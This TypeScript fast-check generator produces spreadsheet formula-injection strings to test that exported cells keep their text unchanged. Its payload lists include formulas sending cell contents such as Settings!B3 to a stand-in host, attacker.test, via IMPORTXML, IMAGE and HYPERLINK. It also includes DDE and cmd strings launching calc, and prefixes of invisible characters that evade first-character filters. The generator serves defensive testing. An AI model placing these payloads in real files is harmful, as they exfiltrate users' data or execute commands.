import fc from "fast-check";

/** Text that spreadsheets are attacked with, after OWASP's page on CSV injection, and text that they mistake for something else. */

/** What may stand before a sign without keeping a spreadsheet from reading it. */
const BEFORE = [
  ...["", "", "", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u2007", "\u202f", "\u3000"],
  ...["'", "''", '"', '";', "',", "\u2019", "`", "%", "|", ";", ",", "<", "(", "{"],
  ...["\ufeff", "\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\u200e", "\u202e", "\u2066"],
  ...["\u0001", "\u0008", "\u000b", "\u000c", "\u001b", "\u007f", "\u0085", "\u2028", "\u2029"],
];

const SIGNS = ["=", "+", "-", "@", "==", "=+", "=-", "=@", "+=", "-+", "@=", "＝", "＋", "－", "＠", "﹦", "−", "＝＝"];

const ADDRESS = "https://attacker.test/?";

/** What would carry a cell away, run, or look like an answer. */
const LEAVES = [
  `IMPORTXML(CONCAT("${ADDRESS}",A1),"//a")`,
  `IMPORTRANGE("${ADDRESS}";"Sheet1!A1")`,
  `IMPORTDATA("${ADDRESS}"&A1&B2)`,
  `IMPORTHTML("${ADDRESS}";"table";1)`,
  `IMPORTFEED("${ADDRESS}")`,
  `IMAGE("${ADDRESS}"&ENCODEURL(Settings!B3))`,
  `HYPERLINK("${ADDRESS}"&A1,"Click here")`,
  `GOOGLETRANSLATE(A1;"en";"de")`,
  `QUERY(Budget!A:Z;"select *")`,
  `SUM(1+1)*cmd|' /C calc'!A0`,
  `DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `rundll32|'URL.dll,OpenURL calc.exe'!A`,
  ...["1+1", "A1", "Settings!B3", "2+5+cmd", "#REF!", "{1;2}", "{1\\2}", "TRUE", "NOW()", "RAND()"],
];

/** One inside the other, as deep as somebody might try. */
const formula = fc.letrec<{ formula: string }>((tie) => ({
  formula: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    fc.constantFrom(...LEAVES),
    tie("formula").map((inner) => `IFERROR(${inner};"")`),
    tie("formula").map((inner) => `IMPORTXML("${ADDRESS}"&${inner};"//a")`),
    tie("formula").map((inner) => `HYPERLINK("${ADDRESS}";${inner})`),
    tie("formula").map((inner) => `ARRAYFORMULA(IMAGE(${inner}))`),
    fc.tuple(tie("formula"), tie("formula")).map(([one, other]) => `${one}&${other}`),
  ),
})).formula;

/** Text that is no formula and still would not stay the text that it is. */
const MISTAKEN = [
  ...["1", "007", "1.5", "1,5", "1.234,56", "1,234.56", "1 234,5", "٥٫٥", "१२३", "1e5", ".5", "5%", "$5", "5 €", "(5)"],
  ...["1/2", "3-4", "1.2.2027", "2027-01-02", "2027-01-02T10:00:00Z", "10:30", "1:2:3", "Jan 5", "5 January 2027"],
  ...["May ٥", "مايو ٥", "५ मई", "TRUE", "false", " True ", "WAHR", "Falsch", "VRAI", "VERDADERO", "VERO", "PRAWDA"],
  ...[
    "'",
    "''",
    "'text",
    "'=1+1",
    '"',
    '""',
    "#N/A",
    "#REF!",
    "#ERROR!",
    "NaN",
    "Infinity",
    "-0",
    "E5",
    "R1C1",
    "A1:B2",
  ],
  ...[
    "{=1}",
    "[link](https://attacker.test)",
    "https://attacker.test",
    "mailto:a@attacker.test",
    "\\=1",
    "^1",
    "~",
    "*",
  ],
];

const payload = fc
  .tuple(
    fc.array(fc.constantFrom(...BEFORE), { maxLength: 2 }),
    fc.constantFrom(...SIGNS),
    formula,
    fc.constantFrom("", "", " ", '"', "'", ";", ",", "\t=1", "\n=1+1", "\r=1", '","=1+1', "';=1", " x"),
  )
  .map(([before, sign, body, after]) => `${before.join("")}${sign}${body}${after}`);

/** Ordinary beginnings with hostile ends: a writer that looks at the first character only lets them pass. */
const inside = fc
  .tuple(fc.constantFrom("a", "Ada ", "x\n", "x\t", "é", "名前", "😀"), payload)
  .map(([start, rest]) => start + rest);

/** At most this many characters, so that they fit into every field of every page. */
const LONGEST = 190;

/** Text that must stay exactly this text in a cell; some of it holds characters that nobody sees. */
export const hostileText: fc.Arbitrary<string> = fc
  .oneof(
    { arbitrary: payload, weight: 6 },
    { arbitrary: inside, weight: 1 },
    { arbitrary: fc.constantFrom(...MISTAKEN), weight: 2 },
    {
      arbitrary: fc
        .tuple(fc.constantFrom(...BEFORE), fc.constantFrom(...MISTAKEN))
        .map(([before, text]) => before + text),
      weight: 1,
    },
  )
  .map((text) => text.slice(0, LONGEST).replace(/[\ud800-\udbff]$/, ""))
  .filter((text) => text.trim() !== "");

/** The text as a sheet holds it: whatever ended its lines, a line feed does. */
export const asKept = (text: string): string => text.replace(/\r\n?/g, "\n");
